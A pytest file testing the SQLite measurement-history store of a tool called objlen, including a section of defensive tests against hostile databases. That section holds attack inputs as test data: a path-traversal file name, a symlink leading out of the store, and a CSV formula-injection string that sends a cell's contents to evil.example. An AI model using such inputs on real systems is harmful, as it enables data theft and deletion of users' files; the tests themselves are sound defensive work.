"""The measurement history in a real SQLite file."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from objlen import MeasureOptions, ReferenceSpec, measure, remeasure
from objlen.imageio import encode_png, sha256_hex
from objlen.store import MIGRATIONS, Store, StoreError, objects_to_csv, to_csv
from tests.conftest import draw_mask

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def measurement(simple_mask):
    return measure(simple_mask, MeasureOptions(reference=ReferenceSpec(length=50.0)))


def test_schema_is_created_on_first_use(tmp_path):
    store = Store(tmp_path / "deep" / "objlen.sqlite3")
    assert store.schema_version == len(MIGRATIONS)
    assert store.count() == 0
    assert (tmp_path / "deep" / "objlen.sqlite3").exists()


def test_save_keeps_the_numbers_json_and_files(tmp_path, measurement, simple_mask):
    store = Store(tmp_path / "objlen.sqlite3")
    corrected = remeasure(measurement, {"B": [369.5, 199.5]})
    photo = b"\xff\xd8 not really a jpeg but bytes"
    mask_png = encode_png(simple_mask)
    row_id = store.save(
        corrected,
        image_name="bolt.jpg",
        image_bytes=photo,
        mask_png=mask_png,
        thumbnail_png=b"thumb",
        settings={"segmenter": "local"},
        note="first",
    )
    row = store.get(row_id)
    assert row.width == pytest.approx(110.0) and row.height == pytest.approx(50.0)
    assert row.moved_points == "B"
    assert row.image_sha256 == sha256_hex(photo)
    assert store.image_path(row).read_bytes() == photo
    assert store.mask_path(row).read_bytes() == mask_png
    assert row.result["objects"][0]["width"]["value"] == pytest.approx(110.0)
    assert row.settings == {"segmenter": "local"}
    assert store.thumbnail(row_id) == b"thumb"


def test_list_filters_and_orders_newest_first(tmp_path, measurement):
    store = Store(tmp_path / "objlen.sqlite3")
    homography = measure(
        draw_mask((300, 400), [(150, 100, 349, 199)], (20, 20, 119, 59)),
        MeasureOptions(method="homography", reference=ReferenceSpec(size=(50.0, 20.0))),
    )
    first = store.save(measurement, image_name="bolt_1.jpg", image_bytes=b"a")
    second = store.save(homography, image_name="nut.jpg", image_bytes=b"b")
    third = store.save(measurement, image_name="BOLT_2.jpg", image_bytes=b"c")
    assert [r.id for r in store.list()] == [third, second, first]
    assert [r.id for r in store.list(name_contains="bolt")] == [third, first]
    assert [r.id for r in store.list(methods=("homography",))] == [second]
    assert [r.id for r in store.list(name_contains="%")] == []  # LIKE wildcards are literal
    today = store.get(first).created_at[:10]
    assert len(store.list(since=today, until=today)) == 3
    assert store.list(until="2000-01-01") == []
    assert len(store.list(limit=2)) == 2


def test_delete_removes_the_row_and_files_no_longer_used(tmp_path, measurement):
    store = Store(tmp_path / "objlen.sqlite3")
    keep = store.save(measurement, image_name="a.jpg", image_bytes=b"same", mask_png=b"m")
    gone = store.save(measurement, image_name="b.jpg", image_bytes=b"same", mask_png=b"m")
    other = store.save(measurement, image_name="c.jpg", image_bytes=b"other")
    shared_image = store.image_path(store.get(keep))
    other_image = store.image_path(store.get(other))
    assert store.delete(gone) and not store.delete(gone)
    assert shared_image.exists()  # still used by `keep`
    assert store.delete(other)
    assert not other_image.exists()
    assert [r.id for r in store.list()] == [keep]


def test_replace_mask_points_the_row_at_the_new_file(tmp_path, measurement):
    store = Store(tmp_path / "objlen.sqlite3")
    row_id = store.save(measurement, image_name="a.jpg", image_bytes=b"a", mask_png=b"old")
    assert store.replace_mask(row_id, b"new")
    assert store.mask_path(store.get(row_id)).read_bytes() == b"new"
    assert not store.replace_mask(row_id + 1, b"new")


def test_csv_export(tmp_path, measurement):
    store = Store(tmp_path / "objlen.sqlite3")
    store.save(measurement, image_name='odd, "name".jpg', image_bytes=b"a")
    rows = list(csv.DictReader(io.StringIO(to_csv(store.list()))))
    assert rows[0]["image_name"] == 'odd, "name".jpg'
    assert float(rows[0]["width"]) == pytest.approx(100.0)
    assert rows[0]["method"] == "proportional"


def test_a_newer_schema_is_refused(tmp_path):
    path = tmp_path / "objlen.sqlite3"
    Store(path)
    connection = sqlite3.connect(path)
    connection.execute(f"PRAGMA user_version = {len(MIGRATIONS) + 5}")
    connection.commit()
    connection.close()
    with pytest.raises(StoreError, match="newer than this objlen"):
        Store(path)


def test_a_crash_in_the_middle_of_saving_loses_nothing_already_saved(tmp_path):
    """A writer is killed (SIGKILL) at a random moment while saving in a loop:
    every row that is there is whole, and its files are there."""
    path = tmp_path / "objlen.sqlite3"
    writer = textwrap.dedent(f"""
        import sys
        sys.path.insert(0, {str(ROOT)!r})
        from objlen import MeasureOptions, ReferenceSpec, measure
        from objlen.store import Store
        from tests.conftest import draw_mask
        result = measure(draw_mask((300, 400), [(150, 100, 349, 199)], (20, 20, 119, 59)),
                         MeasureOptions(reference=ReferenceSpec(length=50.0)))
        store = Store({str(path)!r})
        print("ready", flush=True)
        n = 0
        while True:
            n += 1
            store.save(result, image_name=f"p{{n}}.jpg", image_bytes=str(n).encode() * 5000,
                       mask_png=str(n).encode())
    """)
    process = subprocess.Popen([sys.executable, "-c", writer], stdout=subprocess.PIPE)
    assert process.stdout.readline().strip() == b"ready"
    time.sleep(1.0)
    process.kill()
    process.wait()
    store = Store(path)
    rows = store.list()
    assert len(rows) >= 3
    with sqlite3.connect(path) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    for row in rows:
        n = int(row.image_name[1:-4])
        assert store.image_path(row).read_bytes() == str(n).encode() * 5000
        assert json.loads(row.result_json)["schema"] == "objlen.measurement/1"
    no_temporaries = [p for p in (tmp_path / "images").iterdir() if p.name.endswith(".tmp")]
    assert len(no_temporaries) <= 1  # at most the one being written when killed


def test_unwritable_location_is_a_clear_error(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(StoreError, match="cannot open the history database"):
        Store(blocker / "objlen.sqlite3")


# -- hostile databases (issue #12) -------------------------------------------------


def _craft(path: Path, sql: str, *values: object) -> None:
    """Change the database behind objlen's back, as a crafted file would be."""
    with sqlite3.connect(path) as connection:
        connection.execute(sql, values)
    connection.close()


def test_a_crafted_file_name_never_deletes_outside_the_store(tmp_path, measurement):
    precious_dir = tmp_path / "a" / "somewhere"
    precious_dir.mkdir(parents=True)
    precious = precious_dir / "precious.txt"
    precious.write_text("the user's own file")
    precious_mask = precious_dir / "precious.png"
    precious_mask.write_text("also the user's")
    path = tmp_path / "a" / "b" / "db" / "objlen.sqlite3"  # images/ is a/b/db/images
    store = Store(path)
    row_id = store.save(measurement, image_name="x.jpg", image_bytes=b"x", mask_png=b"m")
    _craft(
        path,
        "UPDATE measurements SET image_file = ?, mask_sha256 = ? WHERE id = ?",
        "../../../somewhere/precious.txt",
        "../../../somewhere/precious",
        row_id,
    )
    row = store.get(row_id)
    with pytest.raises(StoreError, match="not a content hash"):
        store.image_path(row)
    with pytest.raises(StoreError, match="not a content hash"):
        store.mask_path(row)

    assert store.delete(row_id)

    assert precious.read_text() == "the user's own file"
    assert precious_mask.read_text() == "also the user's"
    assert store.count() == 0


def test_a_link_out_of_the_store_is_not_followed(tmp_path, measurement):
    outside = tmp_path / "outside.jpg"
    outside.write_bytes(b"secret")
    store = Store(tmp_path / "db" / "objlen.sqlite3")
    row_id = store.save(measurement, image_name="x.jpg", image_bytes=b"x")
    kept = store.image_path(store.get(row_id))
    kept.unlink()
    kept.symlink_to(outside)
    with pytest.raises(StoreError, match="leads out of"):
        store.image_path(store.get(row_id))
    assert store.delete(row_id)
    assert outside.read_bytes() == b"secret"


def test_garbage_instead_of_a_database_is_a_store_error(tmp_path):
    path = tmp_path / "objlen.sqlite3"
    path.write_bytes(b"this is not SQLite at all\n" * 100)
    with pytest.raises(StoreError, match=r"objlen\.sqlite3"):
        Store(path)


def test_a_damaged_database_is_a_store_error_on_every_read(tmp_path, measurement):
    path = tmp_path / "objlen.sqlite3"
    store = Store(path)
    for n in range(200):
        store.save(measurement, image_name=f"p{n}.jpg", image_bytes=str(n).encode(), note="x" * 200)
    with sqlite3.connect(path) as connection:
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    connection.close()
    data = bytearray(path.read_bytes())
    page = 4096
    for start in range(2 * page, len(data) - page, 3 * page):  # wreck pages, keep the header
        data[start : start + page] = b"\xa5" * page
    path.write_bytes(bytes(data))
    with pytest.raises(StoreError, match="damaged"):
        Store(path).list()


def test_a_foreign_table_layout_is_a_store_error_not_an_sqlite_one(tmp_path):
    path = tmp_path / "objlen.sqlite3"
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE measurements (id INTEGER PRIMARY KEY, other TEXT)")
        connection.execute("INSERT INTO measurements (other) VALUES ('x')")
        connection.execute("PRAGMA user_version = 1")
    connection.close()
    with pytest.raises(StoreError, match="cannot be used"):
        Store(path).list()  # refused on opening (a migration fails) or on reading


def test_another_programs_database_is_refused_untouched(tmp_path):
    path = tmp_path / "places.sqlite"
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT)")
    connection.close()
    before = path.read_bytes()
    with pytest.raises(StoreError, match="another program"):
        Store(path)
    assert path.read_bytes() == before  # not even switched to WAL mode
    with sqlite3.connect(path) as connection:
        tables = [name for (name,) in connection.execute("SELECT name FROM sqlite_master")]
    connection.close()
    assert tables == ["moz_places"]


@pytest.mark.parametrize(
    ("column", "value", "words"),
    [
        ("created_at", "yesterday-ish", "not a date"),
        ("width", "wide", "not a number"),
        ("unit", "furlong", "unknown unit"),
        ("image_name", b"\xff\xfe", "text column"),
    ],
)
def test_a_damaged_row_is_a_store_error(tmp_path, measurement, column, value, words):
    path = tmp_path / "objlen.sqlite3"
    store = Store(path)
    row_id = store.save(measurement, image_name="x.jpg", image_bytes=b"x")
    _craft(path, f"UPDATE measurements SET {column} = ? WHERE id = ?", value, row_id)
    with pytest.raises(StoreError, match=words):
        store.list()
    with pytest.raises(StoreError, match=words):
        store.get(row_id)


def test_damaged_json_in_a_row_is_a_store_error(tmp_path, measurement):
    path = tmp_path / "objlen.sqlite3"
    store = Store(path)
    row_id = store.save(measurement, image_name="x.jpg", image_bytes=b"x")
    _craft(
        path,
        "UPDATE measurements SET result_json = ?, settings_json = ? WHERE id = ?",
        "{not json",
        "[" * 100_000,
        row_id,
    )
    row = store.get(row_id)
    with pytest.raises(StoreError, match="damaged"):
        row.result  # noqa: B018 - the property reads the JSON
    with pytest.raises(StoreError, match="damaged"):
        row.settings  # noqa: B018


def test_csv_export_neutralises_formulas(tmp_path, measurement):
    store = Store(tmp_path / "objlen.sqlite3")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")-photo.jpg'
    store.save(measurement, image_name=hostile, image_bytes=b"a", note="@SUM(1+1)")
    [row] = list(csv.DictReader(io.StringIO(to_csv(store.list()))))
    assert row["image_name"] == "'" + hostile
    assert row["note"] == "'@SUM(1+1)"
    assert float(row["width"]) == pytest.approx(100.0)  # numbers stay numbers


def test_csv_of_every_object(tmp_path):
    """One line per object, largest first, each with its measurement's id and
    photo: the measurement CSV has only the first object's numbers."""
    store = Store(tmp_path / "objlen.sqlite3")
    mask = draw_mask((300, 400), [(150, 100, 349, 199), (150, 220, 249, 259)], (20, 20, 119, 59))
    both = measure(mask, MeasureOptions(reference=ReferenceSpec(length=50.0), all_objects=True))
    moved = remeasure(both, {"B": [269.5, 259.5]}, 1)
    first = store.save(both, image_name="two.jpg", image_bytes=b"a", note="=1+1")
    second = store.save(moved, image_name="two.jpg", image_bytes=b"a")
    rows = list(csv.DictReader(io.StringIO(objects_to_csv(store, store.list()))))
    assert [(int(r["id"]), int(r["object"])) for r in rows] == [
        (second, 1), (second, 2), (first, 1), (first, 2)
    ]  # fmt: skip
    widths = [float(r["width"]) for r in rows]
    assert widths == pytest.approx([100.0, 60.0, 100.0, 50.0])  # 200 / 100 px at 2 px per mm
    assert float(rows[2]["height"]) == pytest.approx(50.0)
    assert rows[1]["moved_points"] == "B" and rows[3]["moved_points"] == ""
    assert {r["image_name"] for r in rows} == {"two.jpg"} and rows[2]["note"] == "'=1+1"
    assert {r["unit"] for r in rows} == {"mm"}
